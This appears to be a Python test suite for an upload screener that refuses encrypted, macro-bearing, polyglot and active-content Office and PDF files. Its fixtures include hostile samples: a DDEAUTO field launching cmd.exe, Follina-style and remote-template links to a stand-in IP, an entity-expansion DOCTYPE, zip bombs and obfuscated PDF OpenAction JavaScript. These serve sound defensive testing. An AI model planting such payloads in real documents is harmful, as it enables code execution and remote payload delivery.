"""Files that cannot be checked are refused with a clear reason: encrypted, macros, remote
templates, DOCTYPE, zip bombs, polyglots, legacy Office, active PDF content; others go to review."""

import io
import zipfile

import pytest

from tests.uploads import corpus as c
from tests.uploads.screening import blocked as _blocked
from tests.uploads.screening import screen


# --- encryption -------------------------------------------------------------------------------------
def test_encrypted_pdf_is_refused(plain_pdf):
    _blocked(screen(name="a.pdf", content=c.pdf_encrypted(plain_pdf, user_password="123")), "已加密")
    # An owner password alone (no password to open) still encrypts the content: refused too.
    _blocked(screen(name="a.pdf", content=c.pdf_encrypted(plain_pdf)), "已加密")


def test_password_protected_docx_is_an_ole2_container_and_refused():
    result = _blocked(screen(name="a.docx", content=c.encrypted_ooxml()), "打开密码")
    assert result.detected_type == "ole2"


def test_zip_with_encrypted_entries_is_refused():
    content = bytearray(c.docx())
    # Set the "encrypted" flag bit on every central directory entry (and local headers).
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (start := content.find(signature, start)) >= 0:
            content[start + offset] |= 0x01
            start += 4
    _blocked(screen(name="a.docx", content=bytes(content)), "加密")


def test_legacy_doc_is_refused_with_save_as_advice():
    result = _blocked(screen(name="通知.doc", content=c.legacy_doc()), "另存为 .docx")
    assert result.detected_type == "ole2"


# --- macros, remote content, DOCTYPE ---------------------------------------------------------------
def test_vba_project_is_refused():
    _blocked(screen(name="a.docx", content=c.docx(extra={"word/vbaProject.bin": c.legacy_doc()})), "宏")


def test_docm_disguised_as_docx_is_refused():
    result = _blocked(screen(name="通知.docx", content=c.docx(main_content_type=c.CT_DOCM_MAIN)), "宏", ".docm")
    assert result.detected_type == "docx"


def test_remote_template_is_refused():
    settings = '<w:attachedTemplate r:id="rIdX0"/>'
    content = c.docx(settings=settings, document_rels=[("attachedTemplate", "http://198.51.100.7/t.dotm", "External")])
    _blocked(screen(name="a.docx", content=content), "远程模板")


def test_unc_template_and_linked_ole_object_are_refused_but_hyperlinks_and_local_templates_pass():
    unc = c.docx(document_rels=[("attachedTemplate", "\\\\server\\share\\t.dotm", "External")])
    _blocked(screen(name="a.docx", content=unc), "远程模板")
    follina = c.docx(document_rels=[("oleObject", "mhtml:http://198.51.100.7/x.html!x", "External")])
    _blocked(screen(name="a.docx", content=follina), "OLE")
    fine = c.docx(document_rels=[("hyperlink", "http://www.gov.cn/", "External"),
                                 ("attachedTemplate", "file:///C:\\Users\\x\\AppData\\Normal.dotm", "External")])
    assert screen(name="a.docx", content=fine).verdict == "accepted"


def test_dde_and_remote_include_fields_are_refused():
    dde = c.p(xml='<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r>')
    _blocked(screen(name="a.docx", content=c.docx(dde)), "DDE")
    include = c.p(xml='<w:r><w:instrText> INCLUDETEXT "http://198.51.100.7/x.docx" </w:instrText></w:r>')
    _blocked(screen(name="a.docx", content=c.docx(include)), "外部")


@pytest.mark.parametrize("where", ["word/document.xml", "docProps/custom.xml", "[Content_Types].xml"])
def test_doctype_in_any_xml_part_is_refused(where):
    evil = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "机密★1年"><!ENTITY b "&a;&a;&a;">]>'
    if where == "word/document.xml":
        content = c.docx(document_xml=evil + c.story("document", "<w:body>" + c.p("&b;") + "</w:body>")[38:])
    elif where == "docProps/custom.xml":
        content = c.docx(custom={"备注": "x"})
        content = _replace_entry(content, where, evil + c.custom_xml(备注="&a;")[38:])
    else:
        content = _replace_entry(c.docx(), where, evil + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    _blocked(screen(name="a.docx", content=content), "DOCTYPE")


def _replace_entry(content: bytes, name: str, data: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, data if info.filename == name else source.read(info))
    return out.getvalue()


# --- zip bombs ----------------------------------------------------------------------------------------
def test_zip_bomb_is_refused_by_unpacked_size(settings):
    settings.OA_UPLOAD_ZIP_MAX_UNPACKED_BYTES = 20 * 1024 * 1024
    settings.OA_UPLOAD_ZIP_MAX_RATIO = 100_000
    _blocked(screen(name="a.docx", content=c.zip_bomb(entries=3, size=10 * 1024 * 1024)), "压缩炸弹", "解压后")


def test_zip_bomb_is_refused_by_ratio():
    bomb = c.zip_bomb(entries=1, size=50 * 1024 * 1024)
    assert len(bomb) < 100_000
    _blocked(screen(name="a.docx", content=bomb), "压缩比")


def test_too_many_entries_is_refused_before_reading(settings):
    settings.OA_UPLOAD_ZIP_MAX_ENTRIES = 100
    _blocked(screen(name="a.docx", content=c.many_entries(101)), "条目过多")


# --- polyglots, types -------------------------------------------------------------------------------
def test_pdf_with_zip_appended_is_refused_as_polyglot(plain_pdf):
    result = _blocked(screen(name="a.pdf", content=plain_pdf + c.docx(c.p("机密★1年"))), "多格式")
    assert result.detected_type == "pdf"


def test_zip_starting_with_a_pdf_header_is_refused_as_polyglot(plain_pdf):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", plain_pdf[:2000])
    _blocked(screen(name="a.docx", content=out.getvalue()), "多格式")


def test_image_with_zip_appended_is_refused_as_polyglot():
    _blocked(screen(name="a.png", content=c.png() + c.docx()), "多格式")


def test_office_and_ofd_in_one_package_is_refused():
    _blocked(screen(name="a.docx", content=c.docx(extra={"OFD.xml": "<OFD/>"})), "多格式")


@pytest.mark.parametrize(("content", "fragment"), [
    (b"", "空"),
    (b"MZ\x90\x00" + b"\x00" * 200, "无法识别"),
    (b"GIF89a" + b"\x00" * 100, "无法识别"),
    ("普通文字".encode("utf-16"), "UTF-16"),
])
def test_other_types_are_refused(content, fragment):
    _blocked(screen(name="a.docx", content=content), fragment)


def test_plain_zip_pptx_and_odt_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    _blocked(screen(name="a.zip", content=out.getvalue()), "ZIP")
    pptx = c.docx(main_content_type="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    _blocked(screen(name="a.docx", content=pptx), "PowerPoint")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    _blocked(screen(name="a.odt", content=out.getvalue()), "OpenDocument")


def test_size_cap(settings):
    settings.OA_UPLOAD_MAX_BYTES = 1000
    _blocked(screen(name="a.txt", content=b"a" * 1001), "超过上限")
    assert screen(name="a.txt", content=b"a" * 1000).verdict == "accepted"


def test_type_comes_from_content_and_the_name_must_agree(plain_pdf):
    result = _blocked(screen(name="看起来是图片.png", content=plain_pdf), "“.png”表示PNG 图片", "内容是PDF 文档", "不符")
    assert result.detected_type == "pdf"  # still read from the bytes, never from the name
    for name in ("看起来是图片.pdf", "扫描件.PDF", "没有扩展名"):
        result = screen(name=name, content=plain_pdf)
        assert result.verdict == "accepted" and result.detected_type == "pdf", name


# --- PDF active content -------------------------------------------------------------------------
def test_pdf_javascript_is_refused(plain_pdf):
    _blocked(screen(name="a.pdf", content=c.pdf_with_js(plain_pdf)), "JavaScript")


def test_pdf_open_action_javascript_with_obfuscated_name_is_refused(plain_pdf):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def open_action(writer):
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    content = c.pdf_rewrite(plain_pdf, open_action)
    _blocked(screen(name="a.pdf", content=content), "JavaScript")
    # /J#61vaScript is /JavaScript to every reader: still refused.
    obfuscated = c.pdf_rewrite(plain_pdf, open_action).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert b"/JavaScript" not in obfuscated and b"/JS" not in obfuscated
    _blocked(screen(name="a.pdf", content=obfuscated), "JavaScript")


def test_pdf_embedded_file_is_refused(plain_pdf):
    _blocked(screen(name="a.pdf", content=c.pdf_with_attachment(plain_pdf, data="机密★1年".encode())), "嵌入文件")


def test_broken_pdf_is_refused_not_crashed(plain_pdf):
    _blocked(screen(name="a.pdf", content=plain_pdf[:300]))
    _blocked(screen(name="a.pdf", content=b"%PDF-1.7\n" + b"\x00garbage" * 100))


# --- embedded files inside packages ------------------------------------------------------------------
def test_embedded_docx_inside_docx_is_screened():
    inner = c.docx(c.p("机密★1年"))
    content = c.docx(extra={"word/embeddings/Microsoft_Word_Document.docx": inner})
    _blocked(screen(name="a.docx", content=content), "嵌入文件", "机密★1年")


def test_embedded_ole_object_goes_to_review_and_image_only_docx_too():
    content = c.docx(extra={"word/embeddings/oleObject1.bin": c.legacy_doc()})
    result = screen(name="a.docx", content=content)
    assert result.verdict == "review" and "OLE" in result.reasons[0]
    image_only = c.docx(c.p(xml=""), extra={"word/media/image1.png": c.png()})
    result = screen(name="a.docx", content=image_only)
    assert result.verdict == "review" and "只有图片" in result.reasons[0]


def test_embedded_zip_bomb_is_refused_but_an_embedded_presentation_goes_to_review():
    bomb = c.docx(extra={"word/embeddings/Package.zip": c.zip_bomb(entries=1, size=50 * 1024 * 1024)})
    _blocked(screen(name="a.docx", content=bomb), "嵌入文件", "压缩比")
    pptx = c.docx(main_content_type="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    result = screen(name="a.docx", content=c.docx(extra={"word/embeddings/Microsoft_PowerPoint_Presentation.pptx": pptx}))
    assert result.verdict == "review" and "嵌入文件" in result.reasons[0]
